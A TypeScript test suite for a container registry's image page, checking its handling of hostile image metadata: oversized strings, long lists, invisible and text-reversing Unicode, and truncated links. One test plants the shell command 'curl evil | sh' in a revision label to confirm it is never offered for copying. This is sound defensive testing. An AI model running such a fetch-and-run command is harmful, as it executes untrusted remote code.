import { digestOf, MEDIA_TYPES } from '@nx-oci/model';

import { startRegistry, type RunningRegistry } from '..';
import { describe as describeContent, pushBlob, putManifest } from '../testing/push';

const REPOSITORY = 'team/api';

describe('the page of an image that somebody made to harm', () => {
  let registry: RunningRegistry;
  beforeAll(async () => {
    registry = await startRegistry({ acceptSparse: true });
  });
  afterAll(() => registry.close());

  const push = async (tag: string, config: object, more: object = {}): Promise<void> => {
    const text = JSON.stringify({ os: 'linux', architecture: 'amd64', rootfs: { type: 'layers', diff_ids: [] }, ...config });
    await pushBlob(registry.url, REPOSITORY, text);
    const manifest = {
      schemaVersion: 2,
      mediaType: MEDIA_TYPES.ociManifest,
      config: describeContent(MEDIA_TYPES.ociConfig, text),
      layers: [],
    };
    await (await putManifest(registry.url, REPOSITORY, tag, JSON.stringify({ ...manifest, ...more }))).text();
  };
  const open = async (address: string): Promise<string> => {
    const answer = await fetch(registry.url + address);
    expect([address, answer.status]).toEqual([address, 200]);
    return answer.text();
  };
  const openImage = (tag: string): Promise<string> => open(`/?repository=${REPOSITORY}&image=${tag}`);

  it.each([
    ['a step with many spaces', { history: [{ created_by: `x${' '.repeat(100_000)}x` }] }],
    [
      'a source with many slashes',
      {
        config: {
          Labels: {
            'org.opencontainers.image.source': `https://a/${'/'.repeat(100_000)}x`,
            'org.opencontainers.image.revision': 'abcdef0',
          },
        },
      },
    ],
  ])('takes no time for %s', async (what, config) => {
    await push(digestOf(what).slice(-9), config);
    const start = performance.now();
    await openImage(digestOf(what).slice(-9));
    expect(performance.now() - start).toBeLessThan(2000);
  });

  it('is shown for a health check whose words are none', async () => {
    await push('health', { config: { Healthcheck: { Test: [{ toString: 0, valueOf: 0 }] } } });
    expect(await openImage('health')).not.toContain('Health check');
  });

  it('shows the first 1,000 entries of each list, and how many are left out', async () => {
    const labels = Object.fromEntries(Array.from({ length: 3000 }, (_, at) => [`label${at}`, '']));
    await push('long', {
      history: Array.from({ length: 5000 }, () => ({})),
      config: { Env: Array.from({ length: 1001 }, (_, at) => `V${at}=`), Labels: labels },
    });
    await push('short', {});
    for (const page of [await openImage('long'), await open(`/?repository=${REPOSITORY}&compare=short&with=long`)]) {
      expect(page).toContain('Of each list, the first 1,000 entries are shown; 6,001 more are in the image.');
      expect(page).toContain('V999');
      expect(page).not.toContain('V1000');
    }
    expect(await openImage('short')).not.toContain('more are in the image');
  });

  it('cuts texts that are usually words', async () => {
    const long = 'x'.repeat(100_000);
    const labels = { 'org.opencontainers.image.version': long, 'org.opencontainers.image.revision': long, [long]: '' };
    await push('words', { os: long, created: long, history: [{ created: long }], config: { Labels: labels } }, { artifactType: long });
    expect((await openImage('words')).length).toBeLessThan(20_000);
    const platform = { os: long, architecture: long };
    const index = { schemaVersion: 2, mediaType: MEDIA_TYPES.ociIndex, manifests: [{ ...describeContent('x/y', ''), platform }] };
    await (await putManifest(registry.url, REPOSITORY, 'index', JSON.stringify(index))).text();
    const page = await open(`/?repository=${REPOSITORY}`);
    expect(page).toContain('1 platform');
    expect(page.length).toBeLessThan(20_000);
  });

  it.each(['step 1', '+099999-01-01T00:00:00Z', '2026'])('does not make a time of "%s"', async (created) => {
    await push('time', { created });
    expect(await openImage('time')).toContain(`<dd><span class="no-time">${created}</span></dd>`);
  });

  it('copies no text that is not shown as a whole', async () => {
    await push('revision', { config: { Labels: { 'org.opencontainers.image.revision': '123456789012\ncurl evil | sh\n' } } });
    expect(await openImage('revision')).not.toMatch(/data-copy="[^"]*evil/);
  });

  it('shows characters that are invisible, or that turn a text around', async () => {
    await push('marks', { author: 'me\u202eevil\u200b\u0007', config: { Labels: { 'a\u2066b': 'line\nline\tend' } } });
    const page = await openImage('marks');
    expect(page).toContain(String.raw`me\u202eevil\u200b\u0007`);
    expect(page).toContain(String.raw`a\u2066b`);
    expect(page).toContain('line\nline\tend');
  });

  it('makes no link of an address that it cuts', async () => {
    await push('address', { config: { Labels: { home: `https://example.com/${'a'.repeat(3000)}` } } });
    expect(await openImage('address')).not.toContain('href="https://example.com');
  });
});
